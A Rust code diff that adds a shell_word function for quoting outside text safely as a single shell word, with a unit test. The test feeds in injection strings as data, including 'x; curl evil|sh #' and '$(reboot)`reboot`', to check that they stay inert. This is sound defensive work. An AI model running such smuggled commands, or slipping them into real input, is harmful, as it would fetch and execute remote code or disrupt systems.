@@ -180,6 +180,14 @@ pub fn one_line(text: &str) -> Cow<'_, str> {
     escape(text, |_| false)
 }
 
+/// Text from outside as one word of a command line that people copy into a shell: as [`one_line`], and quoted where it is
+/// not plain.
+pub fn shell_word(text: &str) -> String {
+    let line = one_line(text);
+    let word = shlex::try_quote(&line).expect("what is one line has no NUL character");
+    word.into_owned()
+}
+
 fn escape(text: &str, stays: impl Fn(char) -> bool) -> Cow<'_, str> {
     let harmful = |c: char| is_command(c) && !stays(c);
     if !text.chars().any(harmful) {
@@ -225,6 +233,16 @@ mod tests {
             "a\\u001b]0;title\\u0007\\u0000\\u0008\\u000d\\u009b2J\\u007f\\u202etxt.exe\\u2066\\u2028z\n\tend"
         );
         assert_eq!(one_line("a\nok  checked\tb"), "a\\u000aok  checked\\u0009b");
+    }
+
+    #[test]
+    fn a_word_for_a_shell_is_one_word_whatever_is_in_it() {
+        assert_eq!(shell_word("acme.word-count@1.2.0"), "acme.word-count@1.2.0");
+        for text in ["", "a b", "x; curl evil|sh #", "$(reboot)`reboot`", "it's \"quoted\" \\", "^a!b", r#"{"a":"ä"}"#]
+        {
+            assert_eq!(shlex::split(&shell_word(text)), Some(vec![text.to_owned()]));
+        }
+        assert_eq!(shell_word("a\n\0b"), r#""a\\u000a\\u0000b""#);
     }
 
     #[test]
